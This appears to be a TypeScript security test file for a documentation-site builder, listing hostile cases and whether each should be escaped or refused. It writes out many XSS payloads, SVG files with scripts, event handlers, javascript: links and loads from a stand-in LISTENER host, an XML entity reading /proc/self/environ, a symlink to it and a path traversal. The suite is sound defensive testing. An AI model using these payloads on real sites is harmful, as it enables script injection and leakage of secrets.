import { type HostileCase, page } from '../case.ts';

/** Texts that look like markup, or that end or hide markup in some readers of HTML. */
const TEXTS: Readonly<Record<string, string>> = {
  'a style element': 'a <style>body{display:none}</style> b',
  'an open style element': 'Scoped <style> blocks',
  'an open comment': 'a <!-- b',
  'a comment that ends early': 'a <!--> b <!---> c --!> d',
  'the end of the head': 'a </head> b',
  'the end of the title': 'a </title><script>globalThis.ran=1</script> b',
  'a script': "a <script>location='//LISTENER'</script> b",
  'the end of a script': 'a </script> b',
  'an open script in an open comment': 'a <!-- <script> b',
  'a body': 'a <body onload=ran()> b',
  'a source of a script': 'a src=x type=application/json b',
  'the end of an attribute': 'a" onload="ran()" x=\' b',
  'an image that fails': 'a <img src=x onerror=ran()> b',
  'an instruction for the browser': 'a <meta http-equiv=refresh content=0;url=//LISTENER> b',
  'a base': 'a <base href=//LISTENER> b',
  'a template': 'a </template></noscript><iframe srcdoc=x> b',
  'the mark of the content of a post': 'a data-feed-content b',
  'a stylesheet': 'a <link rel=stylesheet href=//LISTENER> b',
  entities: 'a &lt;script> &amp;lt; &copy; &#60; b',
  'a pattern of a replacement': "a $& $1 $` $' $$ b",
  'marks of the template': 'a <!--<?- HEAD ?>--> <!--<?- DOC_CONTENT ?>--> b',
  CDATA: 'a ]]> <![CDATA[ b',
  'line separators': 'a \u2028 b \u2029 c',
};

/** Characters that YAML can write only as escapes. */
const ESCAPES: Readonly<Record<string, string>> = {
  'a null character': 'a\\0b',
  'half of a surrogate pair': 'a\\uD800b',
  'an escape character': 'a\\e[31mb',
  'a character that is not one': 'a\\uFFFEb',
};

const quoted = (text: string): string => `'${text.replaceAll("'", "''")}'`;

const withFields = (title: string, description: string, more = ''): string =>
  `---\ntitle: ${title}\ndescription: ${description}\n${more}---\n\nText.\n`;

const inFields: HostileCase[] = [
  ...Object.entries(TEXTS).map(([kind, text]): [string, string] => [kind, quoted(text)]),
  ...Object.entries(ESCAPES).map(([kind, text]): [string, string] => [kind, `"${text}"`]),
].flatMap(([kind, value]): HostileCase[] => [
  {
    name: `Title, label and keywords with ${kind}`,
    files: { 'page.mdx': withFields(value, 'Text', `label: ${value}\nkeywords: [${value}]\n`) },
    expected: 'harmless',
  },
  {
    name: `Description with ${kind}, before a redirect`,
    files: { 'page.mdx': withFields('Page', value), 'old.mdx': withFields(value, value, 'redirect: /\n') },
    expected: 'harmless',
  },
]);

/** The places of a site where an author of its blog or its owner writes text. */
const inSite = (text: string): Record<string, string> => {
  const json = JSON.stringify(text);
  return {
    'site.json': `{"title":${json},"tagline":${json},"description":${json},"copyright":${json},"announcement":{"id":${json},"content":${json}},"navbar":{"items":[{"label":${json},"to":"/blog"}]},"footer":{"links":[{"title":${json},"items":[{"label":${json},"to":"/blog"}]}]}}`,
    'docs/index.mdx': `---\ntitle: ${json}\ndescription: ${json}\nhero:\n  title: ${json}\n  text: ${json}\n  actions:\n    - label: ${json}\n      to: /blog\ncards:\n  - title: ${json}\n    text: ${json}\n    to: /blog\n---\n`,
    'docs/docs/page.mdx': withFields(json, json),
    'docs/docs/folder/_category_.json': `{"label":${json},"order":1}`,
    'docs/docs/folder/page.mdx': withFields(json, json),
    'docs/blog/authors.yml': `writer:\n  name: ${json}\n  title: ${json}\n  description: ${json}\n`,
    'docs/blog/tags.yml': `topic:\n  label: ${json}\n  description: ${json}\n  permalink: /topic\n`,
    'docs/blog/2024-01-01-post.mdx': `---\ntitle: ${json}\ndescription: ${json}\nauthors: [writer]\ntags: [topic]\n---\n\nText.\n`,
  };
};

const inWholeSites: HostileCase[] = [
  ['all texts that look like markup', Object.values(TEXTS).join(' ').slice(0, 150)],
  ['a script and the end of the head', `${TEXTS['a script']} </head>`],
  ['an open comment and an open style element', '<!-- <style> a'],
  ['controls and halves of surrogate pairs', 'a\u001B[31m\u0000\uD800\uFFFE b'],
].map(([kind = '', text = '']) => ({
  name: `Configuration, home page, authors, tags and posts with ${kind}`,
  files: inSite(text),
  expected: 'harmless',
  isWholeSite: true,
}));

const XMLNS =
  'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"';

const svg = (inside: string): string => `<svg ${XMLNS}>\n${inside}\n</svg>\n`;

const htmlInSvg = (inside: string): string =>
  svg(`<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">${inside}</div></foreignObject>`);

const BASE64 = (text: string): string => `data:image/svg+xml;base64,${Buffer.from(text).toString('base64')}`;

/** Drawings that run, load or send something: the line of the problem, and the source. */
const DRAWINGS: Readonly<Record<string, [line: number, source: string]>> = {
  'a script': [2, svg('<script>fetch("//LISTENER")</script>')],
  'a script of another namespace': [
    2,
    svg('<x:script xmlns:x="http://www.w3.org/1999/xhtml">ran()</x:script>'),
  ],
  'a script in HTML': [2, htmlInSvg('<script>ran()</script>')],
  'a refresh in HTML': [2, htmlInSvg('<meta http-equiv="refresh" content="0;url=//LISTENER"/>')],
  'a base in HTML': [2, htmlInSvg('<base href="//LISTENER/"/>')],
  'a stylesheet in HTML': [2, htmlInSvg('<link rel="stylesheet" href="//LISTENER"/>')],
  'a frame in HTML': [2, htmlInSvg('<iframe src="//LISTENER"/>')],
  'a form in HTML': [2, htmlInSvg('<form action="//LISTENER"><input name="a"/></form>')],
  'an object in HTML': [2, htmlInSvg('<object data="//LISTENER"/>')],
  'a video in HTML': [2, htmlInSvg('<video src="//LISTENER"/>')],
  'a srcset in HTML': [2, htmlInSvg('<img src="data:image/png,x" srcset="//LISTENER 2x"/>')],
  'a handler in HTML': [2, htmlInSvg('<p onpointerover="ran()">x</p>')],
  'a style in HTML that loads an image': [2, htmlInSvg('<p style="background:url(//LISTENER)">x</p>')],
  'an image set in a style': [
    2,
    htmlInSvg('<p style="background:image-set(&quot;//LISTENER&quot; 1x)">x</p>'),
  ],
  'a handler': [1, `<svg ${XMLNS} onload="ran()"/>`],
  'a handler in capitals': [1, `<svg ${XMLNS} ONLOAD="ran()"/>`],
  'a link that runs a script': [2, svg('<a href="javascript:ran()"><text>x</text></a>')],
  'a link with entities': [2, svg('<a xlink:href="&#106;avascript&#58;ran()"><text>x</text></a>')],
  'a link with a line break': [2, svg('<a href="java&#10;script:ran()"><text>x</text></a>')],
  'a link to a document of text': [2, svg('<a href="data:text/html,x"><text>x</text></a>')],
  'an animated link': [2, svg('<a><set attributeName="href" to="javascript:ran()"/><text>x</text></a>')],
  'an animated handler': [2, svg('<animate attributeName="onclick" values="ran()"/>')],
  'an animated fill': [2, svg('<set attributeName="fill" to="url(//LISTENER)"/>')],
  'an import': [2, svg('<style>@import "//LISTENER";</style>')],
  'an import with an escape': [2, svg('<style>@\\69mport "//LISTENER";</style>')],
  'a URL with an escape': [2, svg('<style>a{fill:u\\72l(//LISTENER)}</style>')],
  'a URL in CDATA': [2, svg('<style><![CDATA[a{fill:url(//LISTENER)}]]></style>')],
  'a font of another site': [2, svg('<style>@font-face{font-family:A;src:url(//LISTENER)}</style>')],
  'a URL from a variable': [2, svg('<style>a{--u:"//LISTENER";fill:image-set(var(--u) 1x)}</style>')],
  'an image of another site': [2, svg('<image href="//LISTENER/a.png"/>')],
  'an image of another site with entities': [2, svg('<image xlink:href="&#104;ttp://LISTENER/a.png"/>')],
  'a filter that loads an image': [2, svg('<filter><feImage href="http://LISTENER/a.png"/></filter>')],
  'a part of another file': [2, svg('<use href="//LISTENER/a.svg#a"/>')],
  'a part of a data URL': [2, svg(`<use href="${BASE64(svg('<script>ran()</script>'))}#a"/>`)],
  'an image with a script': [2, svg(`<image href="${BASE64(svg('<script>ran()</script>'))}"/>`)],
  'a fill of another file': [2, svg('<path fill="url(//LISTENER/a.svg#a)" d="M0 0h9"/>')],
  'a cursor': [2, svg('<path cursor="url(//LISTENER),auto" d="M0 0h9"/>')],
  'another base': [2, svg('<g xml:base="//LISTENER/"><use href="#a"/></g>')],
  'an entity': [
    3,
    `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///proc/self/environ">]>\n${svg('<text>&a;</text>')}`,
  ],
  'an attribute from its doctype': [1, `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "ran()">]>\n${svg('')}`],
  'a stylesheet in an instruction': [1, `<?xml-stylesheet href="//LISTENER"?>\n${svg('')}`],
  'another encoding': [1, `<?xml version="1.0" encoding="UTF-7"?>\n${svg('+ADw-script+AD4-')}`],
  'HTML instead of XML': [1, `<svg ${XMLNS}><img src=x onerror=ran()></svg>`],
};

const drawings = Object.entries(DRAWINGS).map(
  ([kind, [line, source]]): HostileCase => ({
    name: `SVG file with ${kind}`,
    files: { 'page.mdx': page('![A drawing](./drawing.svg)'), 'drawing.svg': source },
    expected: 'refused',
    at: `drawing.svg:${line}`,
    fix: /remove|embed|save|well-formed/,
  }),
);

/** A site whose home page shows a drawing as a part of the page. */
const withIllustration = (path: string, drawing: HostileCase['files'][string]): HostileCase['files'] => ({
  'docs/index.mdx': `---\ntitle: Home\ndescription: A home page.\nhero:\n  title: Home\n  text: Text\n  illustration: ${path}\n  alt: A\n  actions: [{ label: Start, to: /docs/start }]\ncards: []\n---\n`,
  'docs/docs/start.mdx': page('Text.'),
  'docs/drawing.svg': drawing,
});

/** Drawings that are harmless as XML, but not if a page reads them as HTML, or gives their attributes to React. */
const INLINE: Readonly<Record<string, string>> = {
  'an instruction that contains elements in HTML':
    '<?a ><a href="javascript:ran()"><path d="M0 0h9"/></a><script>ran()</script>?>',
  'CDATA that contains elements in HTML':
    '<title><![CDATA[<img src=x onerror=ran()><script>ran()</script>]]></title>',
  'attributes that React reads':
    '<path d="M0 0h9" dangerouslySetInnerHTML="ran()" ref="a" key="b" children="c" suppressHydrationWarning="d"/>',
};

const illustrations: HostileCase[] = [
  ...Object.entries(INLINE).map(
    ([kind, content]): HostileCase => ({
      name: `Illustration with ${kind}`,
      files: withIllustration('./drawing.svg', svg(content)),
      expected: 'harmless',
      isWholeSite: true,
    }),
  ),
  ...(
    [
      ['a script', './drawing.svg', svg('<script>ran()</script>'), 'drawing.svg:2', /remove/],
      ['no drawing', './drawing.svg', '<p>Text</p>', 'index.mdx:7', /Correct the file, or the path/],
      ['a path outside', '../../../etc/a.svg', svg(''), 'index.mdx:7', /leads out of the site/],
      [
        'a symlink to the environment',
        './drawing.svg',
        { symlink: '/proc/self/environ' },
        'index.mdx:7',
        /copy|move/,
      ],
    ] as const
  ).map(
    ([kind, path, drawing, at, fix]): HostileCase => ({
      name: `Illustration with ${kind}`,
      files: withIllustration(path, drawing),
      expected: 'refused',
      at: `docs/${at}`,
      fix,
      isWholeSite: true,
    }),
  ),
];

/** Texts of a page that are not markup. */
const BODIES: Readonly<Record<string, string>> = {
  'code with the end of a script': '```html\n</script><script>ran()</script>\n<!-- <style>\n```',
  'code with shapes': '```xml\n<path d="M0 0"></path></head><body>\n```',
  'inline code with markup': 'Text `<script>ran()</script></head><!--` text.',
  'escaped markup': 'Text \\<script>ran()\\</script> \\<!-- text.',
  entities: '&lt;script&gt;ran()&lt;/script&gt; &#60;img src=x onerror=ran()&#62;',
  'a heading with markup': '## About `</head>` and `<style>`\n\nText.',
  'alternative text with markup': '![a " onerror=ran() \\<script> b](./drawing.svg)',
  'a link title with markup': '[Link](https://example.org "<script>ran()</script> data-feed-content")',
  'a table with markup': '| `</table>` | `<script>` |\n| - | - |\n| `<!--` | `-->` |',
  'a diagram with markup':
    '```mermaid caption="A <b> diagram" alt="A <script> diagram"\nflowchart TB\n  a[text of a script] --> b["&lt;/svg&gt;&lt;script&gt;"]\n```',
  controls: 'Text \u001B[31mred\u001B[0m text \u0008 and \u007F.',
};

const bodies = Object.entries(BODIES).map(
  ([kind, body]): HostileCase => ({
    name: `Page with ${kind}`,
    files: { 'page.mdx': page(body), 'drawing.svg': svg('<path d="M0 0h9"/>') },
    expected: 'harmless',
  }),
);

/** Inputs that try to put something into a page, or into its policy, that the build has not made. */
export const policy: readonly HostileCase[] = [
  ...inFields,
  ...inWholeSites,
  ...drawings,
  ...illustrations,
  ...bodies,
];
